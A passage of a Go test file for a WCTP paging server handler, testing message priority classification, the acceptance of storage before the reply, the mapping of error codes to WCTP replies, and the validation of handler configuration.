			if !strings.Contains(w.Body.String(), `wctpVersion="`+wantVersion+`"`) {
				t.Errorf("reply not in version %s:\n%s", wantVersion, w.Body)
			}
		})
	}
}

func TestClassify(t *testing.T) {
	e := newEnv(t, func(c *Config) {
		c.Classify = func(m paging.Message) paging.Priority {
			if strings.HasPrefix(m.Text.Reveal(), "CODE BLUE") {
				return paging.PriorityCritical
			}
			if m.PagerID == "8005551212" {
				return paging.Priority(99) // invalid: ignored
			}
			return m.Priority
		}
	})
	sr := readTestdata(t, "submitrequest-v1r3.xml")
	e.post(t, replace(t, sr, "Rm 12", "CODE BLUE Rm 12"))
	e.post(t, sr)
	e.post(t, replace(t, replace(t, sr, `"4711"`, `"8005551212"`), `"HIGH"`, `"LOW"`))
	msgs, _ := e.acc.Messages()
	var got []paging.Priority
	for _, m := range msgs {
		got = append(got, m.Priority)
	}
	want := []paging.Priority{paging.PriorityCritical, paging.PriorityHigh, paging.PriorityNormal}
	if !slices.Equal(got, want) {
		t.Errorf("priorities = %v, want %v", got, want)
	}
}

// orderWriter records when the reply starts, to compare with Accept.
type orderWriter struct {
	hdr    http.Header
	events *[]string
	status int
	body   bytes.Buffer
}

func (w *orderWriter) Header() http.Header { return w.hdr }

func (w *orderWriter) WriteHeader(status int) {
	*w.events = append(*w.events, "WriteHeader")
	w.status = status
}

func (w *orderWriter) Write(b []byte) (int, error) {
	*w.events = append(*w.events, "Write")
	return w.body.Write(b)
}

func TestAcceptBeforeReply(t *testing.T) {
	for _, tt := range []struct {
		name      string
		acceptErr error
		wantCode  int
	}{
		{"committed", nil, 200},
		{"store temporarily unavailable", fmt.Errorf("storage: disk full: %w", paging.ErrTemporary), 604},
		{"store closed", fmt.Errorf("storage: %w: closed", paging.ErrTemporary), 604},
		{"other store error", errors.New("bbolt: input/output error"), 604},
		{"invalid and temporary", fmt.Errorf("%w, %w", paging.ErrInvalid, paging.ErrTemporary), 604},
		{"refused as invalid", fmt.Errorf("%w message: nope", paging.ErrInvalid), 302},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, nil)
			var events []string
			e.acc.before = func() { events = append(events, "Accept") }
			e.acc.err = tt.acceptErr
			w := &orderWriter{hdr: http.Header{}, events: &events}
			r := httptest.NewRequest(http.MethodPost, "/wctp", strings.NewReader(readTestdata(t, "submitrequest-v1r3.xml")))
			r.Header.Set("Content-Type", "text/xml")
			e.h.ServeHTTP(w, r)

			if want := []string{"Accept", "WriteHeader", "Write"}; !slices.Equal(events, want) {
				t.Errorf("events = %v, want %v", events, want)
			}
			if w.status != 200 {
				t.Errorf("status = %d", w.status)
			}
			resp, err := ParseResponse(w.body.Bytes())
			if err != nil {
				t.Fatal(err)
			}
			if resp.Code != tt.wantCode || resp.Success != (tt.wantCode == 200) {
				t.Errorf("reply = %+v, want code %d", resp, tt.wantCode)
			}
			if tt.wantCode == 604 && !strings.Contains(e.log.String(), "level=ERROR") {
				t.Errorf("604 not logged as an error:\n%s", e.log)
			}
		})
	}
}

func TestNewHandlerConfig(t *testing.T) {
	acc, dir := &fakeAccepter{}, &fakeDirectory{}
	for _, tt := range []struct {
		name string
		cfg  Config
	}{
		{"sender without ID", Config{Senders: []Sender{{SecurityCode: "x"}}}},
		{"sender without code", Config{Senders: []Sender{{ID: "a"}}}},
		{"duplicate sender", Config{Senders: []Sender{{ID: "a", SecurityCode: "x"}, {ID: "a", SecurityCode: "y"}}}},
		{"client without password", Config{Clients: []Client{{ID: "a"}}}},
		{"duplicate client", Config{Clients: []Client{{ID: "a", Password: "x"}, {ID: "a", Password: "x"}}}},
		{"negative text length", Config{MaxTextLen: -1}},
		{"text length over domain ceiling", Config{MaxTextLen: paging.MaxTextLen + 1}},
		{"negative body size", Config{MaxBodyBytes: -1}},
	} {
		if _, err := NewHandler(tt.cfg, acc, dir, nil, nil); err == nil {
			t.Errorf("%s: no error", tt.name)
		}
	}
	if _, err := NewHandler(Config{}, nil, dir, nil, nil); err == nil {
		t.Error("nil Accepter: no error")
	}
	h, err := NewHandler(Config{Senders: []Sender{{ID: "a", SecurityCode: "x"}}, Clients: []Client{{ID: "a", Password: "y"}}}, acc, dir, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if h.maxText != DefaultMaxTextLen || h.maxBody != DefaultMaxBodyBytes || h.line != DefaultLine {
		t.Errorf("defaults = %d, %d, %q", h.maxText, h.maxBody, h.line)
	}
}
